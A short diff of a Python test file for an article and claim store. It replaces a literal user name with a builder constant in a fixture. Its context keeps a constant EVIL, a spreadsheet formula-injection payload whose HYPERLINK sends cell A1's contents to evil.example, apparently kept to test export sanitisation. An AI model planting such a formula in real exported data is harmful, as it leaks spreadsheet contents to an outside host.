@@ -26,6 +26,7 @@ from store import acts, articles, figures, petitions, stories, targets
 from store.database import open_store
 from store.errors import InputError, UsageError
 from store.model import Article, Count
+from tests.store.builders import ANA
 
 DAY = datetime(2026, 5, 4, 9, tzinfo=UTC)
 EVIL = '=HYPERLINK("https://evil.example/?"&A1,"open")'
@@ -64,7 +65,7 @@ def here(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[Path]:
         )
         with store.begin() as conn:
             read = figures.claims_of_article(conn, ARTICLE.id)[0]
-            acts.add(conn, "accept", targets.of_claim(conn, read.id), "ana", later)
+            acts.add(conn, "accept", targets.of_claim(conn, read.id), ANA, later)
     yield tmp_path
 
 
